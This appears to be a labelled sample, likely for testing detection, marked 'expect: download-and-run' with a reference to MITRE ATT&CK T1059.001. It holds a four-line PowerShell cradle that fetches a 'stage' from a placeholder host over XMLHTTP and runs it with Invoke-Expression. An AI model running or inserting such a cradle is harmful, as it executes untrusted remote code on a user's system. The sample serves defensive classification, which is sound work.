# expect: download-and-run | source: MITRE ATT&CK T1059.001
$h = New-Object -ComObject Msxml2.XMLHTTP
$h.open('GET', 'http://files.example.invalid/stage', $false)
$h.send()
Invoke-Expression $h.responseText
